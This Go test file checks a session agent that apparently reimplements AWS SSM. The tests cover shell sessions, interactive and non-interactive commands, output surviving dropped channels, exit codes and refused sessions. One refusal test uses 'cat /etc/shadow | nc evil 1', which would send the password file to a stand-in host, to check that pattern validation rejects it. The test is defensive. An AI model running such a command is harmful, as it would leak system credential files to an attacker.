package agent_test

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/sesame-sh/sesame/internal/protocol"
)

// The documents of AWS the tests use, as the server stores them.
const (
	runShellDoc = `{"schemaVersion":"1.0","description":"Session preferences","sessionType":"Standard_Stream",
	  "inputs":{"s3BucketName":"","kmsKeyId":"","runAsEnabled":false,"runAsDefaultUser":"","idleSessionTimeout":"20",
	  "shellProfile":{"windows":"","linux":"PS1='$ '; export SESAME_PROFILE=typed"}}}`
	interactiveDoc = `{"schemaVersion":"1.0","sessionType":"InteractiveCommands",
	  "parameters":{"command":{"type":"String","description":"(Required) The command to run on the instance"}},
	  "properties":{"linux":{"commands":"{{ command }}","runAsElevated":false},"windows":{"commands":"{{ command }}","runAsElevated":false}}}`
	nonInteractiveDoc = `{"schemaVersion":"1.0","sessionType":"NonInteractiveCommands",
	  "parameters":{"command":{"type":"String","description":"(Required) The command to run","allowedPattern":"^[a-z0-9 ;>&'$_-]+$"},
	    "separate":{"type":"String","default":"true"}},
	  "properties":{"linux":{"commands":"{{ command }}","separateOutputStream":"{{ separate }}","stdOutSeparatorPrefix":"OUT:","stdErrSeparatorPrefix":"ERR:"}}}`
	portDoc = `{"schemaVersion":"1.0","sessionType":"Port","parameters":{"portNumber":{"type":"String","default":"22"}},
	  "properties":{"portNumber":"{{ portNumber }}"}}`
)

// openShell starts an agent and a shell session on it, handshake done.
func openShell(t *testing.T) (*fakeServer, *controlPeer, *fakeSession) {
	t.Helper()
	fs := newFakeServer(t)
	startAgent(t, agentConfig(fs))
	p := fs.nextControl(t)
	s := fs.newSession(t)
	s.start(p, protocol.SessionStandardStream, "SSM-SessionManagerRunShell", runShellDoc, nil)
	open := <-s.opens
	if open.ClientInstanceID != "mi-0123456789abcdef0" || open.MessageSchemaVersion != "1.0" || open.RequestID == "" {
		t.Errorf("opening frame %+v", open)
	}
	s.expectState(t, protocol.SessionConnected)
	req := s.handshake(t)
	if req.AgentVersion != "3.3.1.0" || len(req.RequestedClientActions) != 1 {
		t.Fatalf("handshake request %+v", req)
	}
	st, err := req.RequestedClientActions[0].SessionType()
	if err != nil || st.SessionType != protocol.SessionStandardStream || string(st.Properties) != "null" {
		t.Fatalf("SessionType action %+v (%s), %v", st, st.Properties, err)
	}
	return fs, p, s
}

func TestShellSession(t *testing.T) {
	t.Parallel()
	_, _, s := openShell(t)
	s.resize(t, 100, 30)
	at := s.waitSize(t, 0, "30 100")
	s.typeLine(t, `echo "profile: $SESAME_PROFILE"; echo he''llo`)
	at = s.out.waitFor(t, at, "profile: typed\r\n")
	at = s.out.waitFor(t, at, "hello\r\n")
	s.typeLine(t, "tty")
	at = s.out.waitFor(t, at, "/dev/pts/")
	s.resize(t, 132, 40)
	at = s.waitSize(t, at, "40 132")
	s.typeLine(t, "exit 3")
	d := s.readMessage(t)
	if code, err := protocol.ParseExitCode(d.Payload); d.PayloadType != protocol.PayloadExitCode || err != nil || code != 3 {
		t.Fatalf("got %s %q, want exit code 3", d.PayloadType, d.Payload)
	}
	s.expectState(t, protocol.SessionTerminating)
	s.expectEnded(t)
	if st := s.client.Stats(); st.Malformed != 0 {
		t.Errorf("client stats %+v", st)
	}
}

// TestShellOutputAcrossDrops sends 10 MB through a shell while the
// server drops the agent's data channel several times: every byte
// arrives once, in order.
func TestShellOutputAcrossDrops(t *testing.T) {
	t.Parallel()
	_, p, s := openShell(t)
	data := make([]byte, 0, 10<<20)
	rng := rand.New(rand.NewPCG(1, 2))
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	for len(data) < 10<<20 {
		for range 76 {
			data = append(data, alphabet[rng.IntN(len(alphabet))])
		}
		data = append(data, '\n')
	}
	file := filepath.Join(t.TempDir(), "data")
	if err := os.WriteFile(file, data, 0o644); err != nil {
		t.Fatal(err)
	}
	// -opost keeps \n as is; the markers are written in octal so that
	// the echoed command line does not contain them.
	s.typeLine(t, fmt.Sprintf(`stty -opost; printf '\043\102\105\107\043\n'; cat %s; printf '\043\105\116\104\043\n'; stty opost`, file))
	begin := s.out.waitFor(t, 0, "#BEG#\n")
	for i := 1; i <= 4; i++ {
		s.out.waitFor(t, begin, string(data[i*len(data)/5:i*len(data)/5+76]))
		s.dropAgent()
		if m := p.expect(t, protocol.ControlSessionToken); m.SessionID != s.id {
			t.Fatalf("session_token for %q", m.SessionID)
		}
	}
	end := s.out.waitFor(t, begin, "#END#\n")
	got := s.out.bytes(begin, end-len("#END#\n"))
	if !bytes.Equal(got, data) {
		i := 0
		for i < min(len(got), len(data)) && got[i] == data[i] {
			i++
		}
		t.Fatalf("got %d bytes, want %d; they differ from byte %d", len(got), len(data), i)
	}
	s.typeLine(t, "exit")
	if d := s.readMessage(t); string(d.Payload) != "EXIT_CODE: 0" {
		t.Fatalf("got %s %q", d.PayloadType, d.Payload)
	}
	s.expectState(t, protocol.SessionTerminating)
	t.Logf("agent→client: %+v", s.client.Stats())
}

func TestInteractiveCommand(t *testing.T) {
	t.Parallel()
	fs := newFakeServer(t)
	startAgent(t, agentConfig(fs))
	p := fs.nextControl(t)
	s := fs.newSession(t)
	s.start(p, protocol.SessionInteractiveCommands, "AWS-StartInteractiveCommand", interactiveDoc,
		map[string][]string{"command": {"read x; echo got:$x; tty; exit 5"}})
	s.expectState(t, protocol.SessionConnected)
	req := s.handshake(t)
	st, _ := req.RequestedClientActions[0].SessionType()
	props, err := st.Commands()
	if err != nil || props.Linux == nil || props.Linux.Commands != "read x; echo got:$x; tty; exit 5" {
		t.Fatalf("handshake properties %s: %v", st.Properties, err)
	}
	s.typeLine(t, "abc")
	at := s.out.waitFor(t, 0, "got:abc\r\n")
	s.out.waitFor(t, at, "/dev/pts/")
	if d := s.readMessage(t); string(d.Payload) != "EXIT_CODE: 5" {
		t.Fatalf("got %s %q", d.PayloadType, d.Payload)
	}
	s.expectState(t, protocol.SessionTerminating)
}

func TestNonInteractiveCommand(t *testing.T) {
	t.Parallel()
	fs := newFakeServer(t)
	startAgent(t, agentConfig(fs))
	p := fs.nextControl(t)
	s := fs.newSession(t)
	s.start(p, protocol.SessionNonInteractiveCommands, "Custom-Run", nonInteractiveDoc,
		map[string][]string{"command": {"sh -c 'echo one; echo two; echo oops >&2; exit 7'"}})
	s.expectState(t, protocol.SessionConnected)
	s.handshake(t)
	var stderr []byte
	var code []byte
	for code == nil {
		d := s.readMessage(t)
		switch d.PayloadType {
		case protocol.PayloadStdErr:
			stderr = append(stderr, d.Payload...)
		case protocol.PayloadExitCode:
			code = d.Payload
		default:
			t.Fatalf("unexpected %s %q", d.PayloadType, d.Payload)
		}
	}
	s.out.waitFor(t, 0, "OUT:one\nOUT:two\n")
	if string(stderr) != "ERR:oops\n" || string(code) != "EXIT_CODE: 7" {
		t.Errorf("stderr %q, exit code %q", stderr, code)
	}
	s.expectState(t, protocol.SessionTerminating)
}

// TestSessionRefused covers sessions the agent refuses to run: each
// ends with channel_closed carrying the reason.
func TestSessionRefused(t *testing.T) {
	t.Parallel()
	fs := newFakeServer(t)
	startAgent(t, agentConfig(fs))
	p := fs.nextControl(t)
	tests := []struct {
		name   string
		typ    protocol.SessionType
		doc    string
		params map[string][]string
		want   string
	}{
		{"pattern", protocol.SessionNonInteractiveCommands, nonInteractiveDoc,
			map[string][]string{"command": {"cat /etc/shadow | nc evil 1"}}, `does not match the allowed pattern`},
		{"missing parameter", protocol.SessionInteractiveCommands, interactiveDoc, nil, `parameter "command" is required`},
		{"unknown parameter", protocol.SessionInteractiveCommands, interactiveDoc,
			map[string][]string{"command": {"id"}, "other": {"x"}}, `"other" is not a parameter`},
		{"port", protocol.SessionPort, portDoc, nil, "Port sessions (port forwarding, SSH) are not supported"},
		{"kms", protocol.SessionStandardStream, strings.Replace(runShellDoc, `"kmsKeyId":""`, `"kmsKeyId":"alias/k"`, 1), nil, "KMS encryption"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := fs.newSession(t)
			s.start(p, tt.typ, "Doc", tt.doc, tt.params)
			s.expectState(t, protocol.SessionConnected)
			cc := s.expectClosed(t)
			if !strings.Contains(cc.Output, tt.want) || cc.SessionID != s.id {
				t.Errorf("channel_closed %+v, want Output with %q", cc, tt.want)
			}
			s.expectEnded(t)
		})
	}
}

// TestLingeringChild: a program that exits while something it started
// still holds its terminal or output pipe ends its session: the
// terminal hangs up with its session leader; a pipe is read until it
// stays silent for 2 s.
func TestLingeringChild(t *testing.T) {
	t.Parallel()
	fs := newFakeServer(t)
	startAgent(t, agentConfig(fs))
	p := fs.nextControl(t)
	for _, typ := range []protocol.SessionType{protocol.SessionInteractiveCommands, protocol.SessionNonInteractiveCommands} {
		t.Run(string(typ), func(t *testing.T) {
			s := fs.newSession(t)
			doc := strings.Replace(interactiveDoc, `"InteractiveCommands"`, `"`+string(typ)+`"`, 1)
			s.start(p, typ, "Doc", doc, map[string][]string{"command": {`sh -c "(trap '' HUP; exec sleep 5) & echo started; exit 4"`}})
			s.expectState(t, protocol.SessionConnected)
			s.handshake(t)
			s.out.waitFor(t, 0, "started")
			if d := s.readMessage(t); string(d.Payload) != "EXIT_CODE: 4" {
				t.Fatalf("got %s %q", d.PayloadType, d.Payload)
			}
			s.expectState(t, protocol.SessionTerminating)
		})
	}
}

// TestExitCodeByClient: the plugin gets the exit code only where AWS's
// agent sends it, NonInteractiveCommands with separateOutputStream (it
// prints "EXIT_CODE: n" as output); sesame's client gets it for every
// session type.
func TestExitCodeByClient(t *testing.T) {
	t.Parallel()
	fs := newFakeServer(t)
	startAgent(t, agentConfig(fs))
	p := fs.nextControl(t)
	const plugin = "1.3.0.0"
	tests := []struct {
		name    string
		version string
		typ     protocol.SessionType
		doc     string
		params  map[string][]string
		input   string // typed after the handshake
		want    string // the exit code message, "" for none
	}{
		{"plugin shell", plugin, protocol.SessionStandardStream, runShellDoc, nil, "exit 3", ""},
		{"plugin interactive", plugin, protocol.SessionInteractiveCommands, interactiveDoc,
			map[string][]string{"command": {"exit 5"}}, "", ""},
		{"plugin non-interactive", plugin, protocol.SessionNonInteractiveCommands, nonInteractiveDoc,
			map[string][]string{"command": {"sh -c 'exit 6'"}, "separate": {"false"}}, "", ""},
		{"plugin non-interactive, separate streams", plugin, protocol.SessionNonInteractiveCommands, nonInteractiveDoc,
			map[string][]string{"command": {"sh -c 'exit 7'"}}, "", "EXIT_CODE: 7"},
		{"sesame shell", protocol.SesameClientVersion, protocol.SessionStandardStream, runShellDoc, nil, "exit 3", "EXIT_CODE: 3"},
		{"sesame interactive", protocol.SesameClientVersion, protocol.SessionInteractiveCommands, interactiveDoc,
			map[string][]string{"command": {"exit 5"}}, "", "EXIT_CODE: 5"},
		{"sesame non-interactive", protocol.SesameClientVersion, protocol.SessionNonInteractiveCommands, nonInteractiveDoc,
			map[string][]string{"command": {"sh -c 'exit 6'"}, "separate": {"false"}}, "", "EXIT_CODE: 6"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := fs.newSession(t)
			s.version = tt.version
			s.start(p, tt.typ, "Doc", tt.doc, tt.params)
			s.expectState(t, protocol.SessionConnected)
			s.handshake(t)
			if tt.input != "" {
				s.typeLine(t, tt.input)
			}
			if tt.want != "" {
				if d := s.readMessage(t); d.PayloadType != protocol.PayloadExitCode || string(d.Payload) != tt.want {
					t.Fatalf("got %s %q, want %q", d.PayloadType, d.Payload, tt.want)
				}
			}
			// The agent sends Terminating once the client has acknowledged
			// everything: an exit code would be waiting by then.
			s.expectState(t, protocol.SessionTerminating)
			if st := s.client.Stats(); st.Pending != 0 {
				d := s.readMessage(t)
				t.Errorf("the client got %s %q", d.PayloadType, d.Payload)
			}
		})
	}
}

// TestClientStreamAnswers: the agent answers client_stream with the
// client its stream is for: the first one named, then another (the
// stream restarts), and it refuses the first one after that.
func TestClientStreamAnswers(t *testing.T) {
	t.Parallel()
	_, _, s := openShell(t)
	for _, tt := range []struct {
		id        string
		takenOver bool
	}{{"client-a", false}, {"client-a", false}, {"client-b", false}, {"client-a", true}, {"client-b", false}} {
		m, err := protocol.NewControl(protocol.TypeClientStream, protocol.UUID{1}, time.Now(), protocol.ClientStream{ClientID: tt.id, ClientVersion: "1.3.0.0"})
		if err != nil {
			t.Fatal(err)
		}
		frame, _ := m.MarshalBinary()
		if err := s.sendToAgent(frame); err != nil {
			t.Fatal(err)
		}
		var cs protocol.ClientStream
		if err := protocol.DecodePayload(s.expectOther(t, protocol.TypeClientStream), protocol.TypeClientStream, &cs); err != nil {
			t.Fatal(err)
		}
		if cs.ClientID != tt.id || cs.TakenOver != tt.takenOver {
			t.Errorf("client_stream %s answered %+v, want TakenOver %v", tt.id, cs, tt.takenOver)
		}
	}
}
